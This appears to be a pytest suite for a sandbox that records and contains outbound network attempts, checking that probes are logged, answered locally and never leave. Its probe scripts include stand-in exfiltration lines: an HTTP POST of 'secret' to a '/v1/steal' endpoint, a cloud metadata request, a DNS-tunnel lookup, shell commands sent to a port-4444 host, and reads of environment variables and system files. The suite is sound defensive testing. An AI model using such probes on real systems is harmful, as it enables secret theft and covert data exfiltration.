"""Recording: whatever a program tries is answered by nobody but the recorder, is written down, and does not leave."""

from __future__ import annotations

import pytest
import rig
from rig import EVIL, FIRST, GOOD, IDENTITIES

pytestmark = pytest.mark.kernel

PER_ATTEMPT, PER_RUN = 4096, 1 << 20
BIG = 300
"""Attempts of ``PER_ATTEMPT`` bytes: more than a run may keep."""

TRIES = """
import ssl
def said(address, port, data, family_=None):
    try:
        with socket.create_connection((address, port), 10) as made:
            made.sendall(data)
            made.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: made.recv(65536), b"")).decode()
    except OSError as error:
        return named(error)
def sent(address, port, data, connected=True):
    with socket.socket(family(address), socket.SOCK_DGRAM) as made:
        if connected:
            made.connect((address, port))
        return tried(made.send, data) if connected else tried(made.sendto, data, (address, port))
def hello(address, name, protocols):
    context = ssl.create_default_context()
    context.set_alpn_protocols(protocols)
    try:
        with socket.create_connection((address, 443), 10) as made, context.wrap_socket(made, server_hostname=name):
            return "ok"
    except OSError as error:
        return "refused"
found["v4"] = lookup("named.example")
found["v6"] = lookup("named.example", socket.AF_INET6)
found["only asked"] = lookup("only-asked.example")
found["txt"] = ask("c2VjcmV0.tunnel.example", 16)["answers"]
found["elsewhere"] = ask("elsewhere.example", server="8.8.8.8")["rcode"]
found["elsewhere, stream"] = ask("elsewhere-stream.example", server="1.1.1.1", stream=True)
head = b"POST /v1/steal?q=1 HTTP/1.1\\r\\nHost: api.example\\r\\nContent-Length: 6\\r\\n\\r\\n"
found["http"] = said("api.example", 80, head + b"secret")
found["http, by address"] = said("169.254.169.254", 80, b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: metadata\\r\\n\\r\\n")
found["raw"] = said("203.0.113.66", 2222, b"SSH-2.0-probe\\r\\n")
found["raw, name"] = said("shell.example", 4444, b"id; uname -a\\n")
found["silent"] = tcp("203.0.113.67", 25)
found["ipv6"] = said("2001:db8::66", 8080, b"by the sixth\\n")
found["udp"] = sent("203.0.113.9", 123, b"what time is it")
found["udp, not connected"] = sent("203.0.113.9", 514, b"a log line", connected=False)
found["udp, ipv6"] = sent("2001:db8::9", 123, b"what time is it there")
found["udp, name"] = sent(lookup("stats.example")[0], 8125, b"count:1|c")
found["tls"] = hello("secure.example", "secure.example", ["h2", "http/1.1"])
found["tls, by address"] = hello("203.0.113.77", "hidden.example", ["http/1.1"])
found["private"] = tcp("192.168.7.7")
found["gateway"] = tcp("10.0.2.2")
found["control bytes"] = said("203.0.113.78", 9, b"\\x1b[2J\\x00evil\\x07")
with socket.create_server(("127.0.0.1", 0)) as server:
    found["own loopback"] = tcp(*server.getsockname())
found["host's loopback"] = tcp("127.0.0.1", 2222)
"""

ON_RECORD = {
    "http": ("api.example", 80, "tcp", "http", "POST /v1/steal?q=1 HTTP/1.1"),
    "http body": ("api.example", 80, "tcp", "http", "secret"),
    "http, by address": ("metadata", 80, "tcp", "http", "GET /latest/meta-data/"),
    "raw": (EVIL, 2222, "tcp", "tcp", "SSH-2.0-probe"),
    "raw, name": ("shell.example", 4444, "tcp", "tcp", "id; uname -a"),
    "silent": ("203.0.113.67", 25, "tcp", "tcp", ""),
    "ipv6": ("2001:db8::66", 8080, "tcp", "tcp", "by the sixth"),
    "udp": ("203.0.113.9", 123, "udp", "udp", "what time is it"),
    "udp, not connected": ("203.0.113.9", 514, "udp", "udp", "a log line"),
    "udp, ipv6": ("2001:db8::9", 123, "udp", "udp", "what time is it there"),
    "udp, name": ("stats.example", 8125, "udp", "udp", "count:1|c"),
    "tls": ("secure.example", 443, "tcp", "tls", "ALPN h2 http/1.1"),
    "tls, by address": ("hidden.example", 443, "tcp", "tls", "server name hidden.example"),
    "name server, stream": ("1.1.1.1", 53, "tcp", "tcp", "elsewhere-stream"),
    "private": ("192.168.7.7", 80, "tcp", "tcp", ""),
    "gateway": ("10.0.2.2", 80, "tcp", "tcp", ""),
    "control bytes": ("203.0.113.78", 9, "tcp", "tcp", "\\x1b[2J\\x00evil\\x07"),
}
"""Host, port, protocol, how it was recognised, and what of the first bytes stands there."""
ONLY_NAMES = ("only-asked.example", "c2vjcmv0.tunnel.example", "elsewhere.example")

CAPS = f"""
def push(address, port, data):
    with socket.create_connection((address, port), 10) as made:
        made.sendall(data)
        made.shutdown(socket.SHUT_WR)
        made.recv(1)
push("203.0.113.66", 1000, b"x" * 20000)
for number in range({BIG}):
    push(f"198.51.100.{{number % 250 + 1}}", 2000 + number, bytes([65 + number % 26]) * {PER_ATTEMPT})
push("203.0.113.66", 1001, b"the last one")
"""

LOOK = """
found["environment"] = dict(os.environ)
found["resolv.conf"], found["hosts"] = open("/etc/resolv.conf").read(), open("/etc/hosts").read()
found["links"] = [name for _, name in socket.if_nameindex()]
found["arguments"] = open("/proc/1/cmdline").read().split("\\0")[0]
found["here"] = sorted(os.listdir("/")), sorted(os.listdir("/tmp")), sorted(os.listdir(os.environ["HOME"]))
"""


def recording(world):
    for name in ("api", "named", "secure", "only-asked", "elsewhere", "shell", "stats"):
        world.zone[f"{name}.example"] = [f"A {GOOD}"]
    return {
        "tries": world.probe(TRIES, policy=world.policy("none"), record_egress=True),
        "look": world.probe(LOOK, egress="record"),
        "look, allow": world.probe(LOOK, allow=["good.example"]),
        "look, none": world.probe(LOOK, egress="none"),
        "reached": world.probe("found['it'] = http('api.example')", allow=["api.example:80"]),
    }


SEVERAL = """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    for number in range(4):
        made.sendto(b"to several %d" % number, (f"203.0.113.{number + 1}", 5000))
for number in range(50):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(b"number %d" % number, (f"198.51.100.{number + 1}", 6000))
"""


def capped(world):
    return {name: world.probe(body, egress="record") for name, body in (("caps", CAPS), ("several", SEVERAL))}


@pytest.fixture(scope="module", params=IDENTITIES)
def recorded(request):
    return rig.run(recording, request.param)


@pytest.mark.parametrize("name", ON_RECORD)
def test_what_was_tried_is_on_record(recorded, name):
    host, port, protocol, via, text = ON_RECORD[name]
    (attempt,) = rig.egress_of(recorded["tries"], host=host, port=port, protocol=protocol)
    assert (attempt["via"], attempt["allowed"]) == (via, False)
    assert text in attempt["data"]
    assert attempt["packets"] >= 1


@pytest.mark.parametrize("name", ONLY_NAMES)
def test_names_that_were_only_asked_are_on_record(recorded, name):
    (attempt,) = rig.egress_of(recorded["tries"], host=name)
    assert (attempt["via"], attempt["address"], attempt["allowed"]) == ("dns", "", False)


def test_every_name_has_addresses_of_its_own(recorded):
    found = recorded["tries"]["found"]
    assert found["v4"][0].startswith(("198.18.", "198.19."))
    assert found["v6"][0].startswith("fd00:")
    assert found["only asked"] != found["v4"]
    assert (found["txt"], found["elsewhere"]) == (0, 0)


def test_a_client_is_told_that_nobody_serves_it(recorded):
    found = recorded["tries"]["found"]
    assert found["http"].startswith("HTTP/1.1 503")
    assert found["raw"] == found["ipv6"] == ""
    assert found["tls"] == found["tls, by address"] == "refused"


def test_nothing_leaves(recorded):
    run = recorded["tries"]
    assert (run["wire"], run["asked"], run["served"]) == ([], [], [])
    assert run["dropped"] == 0


def test_the_same_leaves_where_it_is_allowed(recorded):
    """The control: this world sees what leaves."""
    run = recorded["reached"]
    assert run["found"]["it"] == f"tag {GOOD} 80 api.example"
    assert run["wire"] == [["tcp", GOOD, 80]]


def test_recording_is_no_denial(recorded):
    run = recorded["tries"]
    assert run["denials"] == []
    assert (run["outcome"], run["code"]) == ("exited", 0)


def test_loopback_is_the_boxs_own_and_no_attempt(recorded):
    run = recorded["tries"]
    assert run["found"]["own loopback"] == "ok"
    assert run["found"]["host's loopback"] == "ECONNREFUSED"
    assert not [each for each in run["egress"] if each["address"].startswith("127.")]


def test_first_seen_is_of_the_run(recorded):
    times = [each["first_seen"] for each in recorded["tries"]["egress"] if each["address"] != "8.8.8.8"]
    assert all(time is not None and 0 <= time < 60 for time in times)
    assert times == sorted(times)


def test_nothing_inside_tells_that_it_is_recorded(recorded):
    """But for the links: there is no tap, as in a run without a network."""
    look, others = recorded["look"]["found"], [recorded[f"look, {kind}"]["found"] for kind in ("allow", "none")]
    for name in ("environment", "arguments", "here"):
        assert [each[name] for each in others] == [look[name]] * 2, name
    assert look["resolv.conf"] == others[0]["resolv.conf"]
    assert look["hosts"] == others[0]["hosts"]
    assert look["links"] == ["lo"]
    assert not [name for name in look["environment"] if "stockade" in name.lower() or "proxy" in name.lower()]


@pytest.fixture(scope="module", params=FIRST)
def bounded(request):
    return rig.run(capped, request.param)


def test_first_bytes_of_an_attempt_are_bounded(bounded):
    (attempt,) = rig.egress_of(bounded["caps"], address=EVIL, port=1000)
    assert attempt["data"] == "x" * PER_ATTEMPT
    assert attempt["bytes"] > 20000


def test_bytes_of_a_run_are_bounded_and_attempts_are_not(bounded):
    total = sum(len(each["data"]) for each in bounded["caps"]["egress"])
    assert PER_RUN - PER_ATTEMPT <= total <= PER_RUN
    assert len(bounded["caps"]["egress"]) == BIG + 2
    (attempt,) = rig.egress_of(bounded["caps"], address=EVIL, port=1001)
    assert (attempt["data"], attempt["packets"] > 0) == ("", True)


def test_each_datagram_is_told_by_its_destination(bounded):
    for number in range(50):
        (attempt,) = rig.egress_of(bounded["several"], address=f"198.51.100.{number + 1}", port=6000)
        assert attempt["data"] == f"number {number}"


def test_datagrams_of_one_socket_to_several_places_are_not_mistaken(bounded):
    """All places are told, and all bytes; which belong together is not claimed."""
    for number in range(4):
        (attempt,) = rig.egress_of(bounded["several"], address=f"203.0.113.{number + 1}", port=5000)
        assert attempt["data"] in ("", f"to several {number}")
    told = "\n".join(each["data"] for each in bounded["several"]["egress"])
    assert all(f"to several {number}" in told for number in range(4))
